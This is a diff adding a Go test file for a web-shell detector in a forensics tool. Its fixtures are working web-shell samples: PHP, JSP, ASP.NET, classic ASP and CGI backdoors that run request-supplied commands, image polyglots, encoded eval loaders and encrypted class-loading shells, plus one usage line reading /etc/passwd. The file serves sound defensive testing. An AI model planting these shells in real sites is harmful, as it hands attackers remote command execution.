@@ -1,0 +1,182 @@
+package webshell
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/strata-forensics/strata/audit"
+)
+
+// best returns the highest-severity finding, or nil.
+func best(fs []audit.Finding) *audit.Finding {
+	var b *audit.Finding
+	for i := range fs {
+		if b == nil || fs[i].Severity > b.Severity {
+			b = &fs[i]
+		}
+	}
+	return b
+}
+
+func dump(fs []audit.Finding) string {
+	var b strings.Builder
+	for _, f := range fs {
+		b.WriteString("\n  " + f.Severity.String() + " " + f.Rule + " " + f.Title + " | " + f.Evidence)
+	}
+	return b.String()
+}
+
+func TestAnalyze(t *testing.T) {
+	tests := []struct {
+		name, path, src string
+		rule            string // "" : nothing at medium or above
+		title           string // substring of the finding's title
+	}{
+		{"request through a variable", "/var/www/html/simple-backdoor.php",
+			"<!-- Simple PHP backdoor -->\n<?php\nif(isset($_REQUEST['cmd'])){\n        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n        echo \"</pre>\";\n        die;\n}\n?>\nUsage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd\n",
+			RuleCommand, "system()"},
+		{"GIF polyglot", "/var/www/html/uploads/avatar.gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04<?php system($_GET['c']); ?>",
+			RuleCommand, "polyglot: GIF image with a PHP page inside"},
+		{"JPEG polyglot", "/var/www/html/a.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00<?php passthru($_POST['x']); ?>\xff\xd9",
+			RuleCommand, "JPEG image"},
+		{"decoded layers", "/var/www/html/x.php", `<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>`,
+			RuleCommand, "(decoded: base64 > gzinflate)"},
+		{"array element", "/var/www/html/y.php", `<?php $f = 'sys'.'tem'; $a = array('x' => $_POST['z']); $f($a['x']); ?>`, RuleCommand, "system()"},
+		{"function parameter", "/var/www/html/z.php", `<?php function run($c) { return shell_exec($c); } echo run($_GET['q']); ?>`, RuleCommand, "shell_exec()"},
+		{"constant callback", "/var/www/html/cb.php", `<?php call_user_func('assert', $_POST['x']); ?>`, RuleCode, "assert() via call_user_func()"},
+		{"request-named callback", "/var/www/html/cb2.php", `<?php array_map($_GET['f'], array($_GET['a'])); ?>`, RuleCallable, "array_map()"},
+		{"request-named function", "/var/www/html/f.php", `<?php $_REQUEST['f']($_REQUEST['a']);`, RuleCallable, ""},
+		{"encrypted body loader", "/var/www/html/g.php", `<?php @session_start(); $k='3c6e0b8a9c15224a'; $data=file_get_contents("php://input"); $data=openssl_decrypt($data, "AES128", $k); $arr=explode('|',$data); $params=$arr[1]; class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params); ?>`,
+			RuleCode, "eval()"},
+		{"session-stored payload", "/var/www/html/s.php", `<?php session_start(); function enc($d,$k){ for($i=0;$i<strlen($d);$i++){ $d[$i] = $d[$i]^$k[$i+1&15]; } return $d; }
+$data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])) { $payload = enc($_SESSION['payload'], 'k'); eval($payload); } else { $_SESSION['payload'] = enc($data, 'k'); } ?>`, RuleCode, "eval()"},
+		{"extract", "/var/www/html/e.php", `<?php extract($_POST); passthru($c); ?>`, RuleCommand, "passthru()"},
+		{"backticks", "/var/www/html/b.php", "<?php $x = $_GET['x']; echo `$x`; ?>", RuleCommand, "backticks"},
+		{"preg_replace /e", "/var/www/html/p.php", `<?php preg_replace('/.*/e', $_POST['code'], ''); ?>`, RuleCode, "/e"},
+		{"uploaded file included", "/var/www/html/i.php", `<?php include($_FILES['f']['tmp_name']); ?>`, RuleInclude, "uploaded file"},
+		{"request-named include", "/var/www/html/i2.php", `<?php $p = $_GET['page']; require $p; ?>`, RuleInclude, "require"},
+		{"hidden eval of a constant", "/var/www/html/h.php", `<?php eval(base64_decode('ZWNobyAiaGVsbG8gd29ybGQiOyBmdW5jdGlvbiBmKCkgeyByZXR1cm4gMTsgfQ==')); ?>`, RuleHidden, "base64"},
+		{"JSP parameter", "/srv/tomcat/webapps/ROOT/cmd.jsp", `<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); %>`, RuleCommand, "Runtime.exec()"},
+		{"JSP class loader", "/srv/tomcat/webapps/ROOT/b.jsp", `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`,
+			RuleClassLoad, "defineClass()"},
+		{"JSPX", "/srv/tomcat/webapps/ROOT/x.jspx", `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>String c = request.getParameter("c"); if (c != null &amp;&amp; c.length() &gt; 0) { Runtime.getRuntime().exec(c); }</jsp:scriptlet></jsp:root>`, RuleCommand, "Runtime.exec()"},
+		{"ASP.NET ProcessStartInfo", "/inetpub/wwwroot/c.aspx", `<%@ Page Language="C#" %><% var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe"); psi.Arguments = "/c " + Request["c"]; System.Diagnostics.Process.Start(psi); %>`, RuleCommand, "Process.Start()"},
+		{"ASP.NET JScript eval", "/inetpub/wwwroot/j.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`, RuleCode, "eval()"},
+		{"ASP.NET assembly", "/inetpub/wwwroot/a.aspx", `<%@ Page Language="C#" %><% byte[] b = Convert.FromBase64String(Request.Form["d"]); System.Reflection.Assembly.Load(b).CreateInstance("X").Equals(this); %>`, RuleClassLoad, "Assembly.Load()"},
+		{"classic ASP shell object", "/inetpub/wwwroot/v.asp", "<%\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nc = Request(\"c\")\r\nSet ex = sh.Exec(\"cmd /c \" & c)\r\nResponse.Write ex.StdOut.ReadAll\r\n%>", RuleCommand, "WScript.Shell.Exec()"},
+		{"classic ASP eval", "/inetpub/wwwroot/e.asp", `<%eval request("x")%>`, RuleCode, "eval()"},
+		{"classic ASP Execute", "/inetpub/wwwroot/x.asp", "<%\r\nExecute Request.Form(\"code\")\r\n%>", RuleCode, "Execute()"},
+		{"Perl CGI", "/usr/lib/cgi-bin/s.pl", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint \"Content-type: text/plain\\n\\n\";\nprint `$c`;\n", RuleCommand, "backticks"},
+		{"Python CGI", "/usr/lib/cgi-bin/s.py", "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('cmd')\nos.system(cmd)\n", RuleCommand, "system()"},
+		{"Ruby CGI", "/usr/lib/cgi-bin/s.rb", "#!/usr/bin/ruby\nrequire 'cgi'\ncgi = CGI.new\nc = cgi['c']\nputs `#{c}`\n", RuleCommand, "backticks"},
+
+		// never code: comments, doc blocks, strings
+		{"doc comment backticks", "/usr/share/wordpress/wp-admin/includes/file.php", "<?php\n/**\n * Handles `$_POST['action']` and runs `system($_GET['x'])` in markdown.\n */\n// eval($_POST['x']);\n# system($_GET['c']);\n$msg = 'system($_GET[\"c\"])';\necho $msg;\n", "", ""},
+		{"escaped command", "/var/www/html/thumb.php", `<?php $f = $_GET['file']; exec('convert ' . escapeshellarg($f) . ' out.png'); ?>`, "", ""},
+		{"include from the app directory", "/var/www/html/lang.php", `<?php $l = $_GET['lang']; include __DIR__ . '/lang/' . $l . '.php'; ?>`, "", ""},
+		{"dispatch table", "/var/www/html/ajax.php", `<?php $actions = array('a' => 'do_a'); $fn = $actions[$_POST['action']]; call_user_func($fn); ?>`, "", ""},
+		{"object from request", "/var/www/html/o.php", `<?php $c = new Controller($_REQUEST['db']); echo $c(['x' => 1]); ?>`, "", ""},
+		{"ERB template", "/app/views/index.html.erb", `<% @items.each do |i| %><li><%= i.name %></li><% end %>`, "", ""},
+		{"plain script", "/usr/bin/tool.py", "#!/usr/bin/python3\nimport os, sys\nos.system(sys.argv[1])\n", "", ""},
+		{"not a CGI script", "/usr/bin/pygettext3", "#! /usr/bin/python3\n# -*- coding: iso-8859-1 -*-\nimport sys\nhdr = 'Content-Type: text/plain; charset=\xe9'\ndef safe_eval(s):\n    return eval(s, {}, {})\nfor line in sys.stdin:\n    safe_eval(line)\n", "", ""},
+	}
+	a := New()
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs := a.Analyze(tc.path, []byte(tc.src))
+			b := best(fs)
+			if tc.rule == "" {
+				if b != nil && b.Severity >= audit.Medium {
+					t.Fatalf("want nothing at medium or above, got:%s", dump(fs))
+				}
+				return
+			}
+			var got *audit.Finding
+			for i := range fs {
+				if fs[i].Rule == tc.rule {
+					got = &fs[i]
+				}
+			}
+			if got == nil {
+				t.Fatalf("want %s, got:%s", tc.rule, dump(fs))
+			}
+			if got.Category != audit.CategoryWebshell || !strings.Contains(got.Title, tc.title) {
+				t.Errorf("got %s %q, want webshell with %q", got.Category, got.Title, tc.title)
+			}
+			if got.Rule != RuleHidden && got.Rule != RuleInclude && got.Severity != audit.Critical {
+				t.Errorf("severity %s, want critical", got.Severity)
+			}
+		})
+	}
+}
+
+// TestSamples runs the page samples in testdata: every pos sample is a web shell, every neg
+// sample is not.
+func TestSamples(t *testing.T) {
+	a := New()
+	for _, dir := range []string{"pos", "neg"} {
+		files, err := filepath.Glob(filepath.Join("testdata", dir, "*"))
+		if err != nil || len(files) == 0 {
+			t.Fatalf("no samples in testdata/%s: %v", dir, err)
+		}
+		for _, f := range files {
+			data, err := os.ReadFile(f)
+			if err != nil {
+				t.Fatal(err)
+			}
+			fs := a.Analyze("/var/www/"+filepath.Base(f), data)
+			b := best(fs)
+			switch {
+			case dir == "pos" && (b == nil || b.Severity < audit.High || b.Category != audit.CategoryWebshell):
+				t.Errorf("%s: no web shell found:%s", f, dump(fs))
+			case dir == "neg" && b != nil && b.Severity >= audit.Medium:
+				t.Errorf("%s: clean page flagged:%s", f, dump(fs))
+			}
+		}
+	}
+}
+
+func TestBigPage(t *testing.T) {
+	data := []byte("<?php system($_GET['c']); ?>" + strings.Repeat("<p>filler</p>\n", MaxPage/14+1))
+	fs := New().Analyze("/var/www/big.php", data)
+	if len(fs) != 1 || fs[0].Rule != RuleSkipped || !strings.Contains(fs[0].Title, "not analysed") {
+		t.Fatalf("a page over the limit must be reported as not analysed, got:%s", dump(fs))
+	}
+}
+
+func TestNotPages(t *testing.T) {
+	a := New()
+	for _, tc := range []struct{ path, src string }{
+		{"/usr/share/doc/x/README", "Call system($_GET['c']) to ... <? not php"},
+		{"/etc/config.xml", `<?xml version="1.0"?><a>$_GET</a>`},
+		{"/usr/share/x/template.ejs", `<% if (user) { %><h2><%= user.name %></h2><% } %>`},
+	} {
+		if fs := a.Analyze(tc.path, []byte(tc.src)); len(fs) > 0 {
+			t.Errorf("%s: %s", tc.path, dump(fs))
+		}
+	}
+}
+
+func FuzzAnalyze(f *testing.F) {
+	for _, s := range []string{
+		`<?php $c = $_GET['c']; system($c); function f($a) { return eval($a); } f($_POST[1]); $$x = $_GET; list($a, $b) = [$_GET, 1]; ?>`,
+		`<% String c = request.getParameter("c"); new ProcessBuilder(c).start(); %>`,
+		"<%\r\nx = Request(\"c\")\r\nExecute x\r\n%>",
+		"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new; system($q->param('c'));\n",
+		"GIF89a<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>",
+	} {
+		f.Add("/var/www/a.php", []byte(s))
+	}
+	a := New()
+	f.Fuzz(func(t *testing.T, p string, data []byte) {
+		for _, name := range []string{p, "/var/www/x.php", "/srv/x.jsp", "/srv/x.aspx", "/srv/x.asp", "/usr/lib/cgi-bin/x.pl", "/usr/lib/cgi-bin/x.py", "/usr/lib/cgi-bin/x.rb"} {
+			for _, f := range a.Analyze(name, data) {
+				if f.Rule == RuleSkipped && strings.Contains(f.Title, "analysis failed") {
+					t.Fatalf("%s: %s", name, f.Evidence)
+				}
+			}
+		}
+	})
+}
